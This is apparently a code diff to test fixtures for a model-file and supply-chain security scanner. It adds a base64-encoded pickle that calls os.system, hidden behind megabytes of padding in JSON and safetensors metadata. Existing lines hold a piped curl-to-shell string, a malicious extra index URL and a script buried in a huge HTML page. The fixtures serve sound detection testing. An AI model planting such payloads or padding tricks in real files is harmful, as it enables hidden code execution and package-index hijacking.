@@ -1,5 +1,6 @@
 """Attacks below more of something harmless than a reader might look at."""
 
+import base64
 import json
 from collections.abc import Iterator
 
@@ -11,6 +12,7 @@ from assets.models.tensorflow import constant, graph, node, saved
 _COMMENTS = "# a comment line that says nothing at all\n" * 28_000
 _OFFICIAL = "".join(f"--extra-index-url https://download.pytorch.org/whl/cu{number}\n" for number in range(100, 130))
 _EVIL = "--extra-index-url http://c.example/simple\ntorch==2.0\n"
+_LARGE = (7 << 20).to_bytes(4, "little") + bytes(7 << 20)
 _FETCHES = "curl http://localhost/x | sh"
 
 
@@ -60,6 +62,10 @@ def _files() -> Iterator[tuple[str, bytes, str, str]]:
     program = "# " + "x" * 30_000 + "\nimport os\nos.system('id')\n"
     metadata = safetensors.file({"__metadata__": {"notes": program}})
     yield "metadata", metadata, "safetensors-metadata-code", "model.safetensors"
+    pickled = base64.b64encode(b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R0B" + _LARGE + b".").decode()
+    yield "serialised", json.dumps({"policy": pickled}).encode(), "pickle-dangerous-import", "data.json"
+    metadata = safetensors.file({"__metadata__": {"notes": pickled}})
+    yield "serialised-metadata", metadata, "safetensors-metadata-code", "notes.safetensors"
     page = b"<html><body>" + b"x" * 9_000_000 + b"<script>x()</script></body></html>"
     yield "page", page, "markup-page-script", "a.html"
 
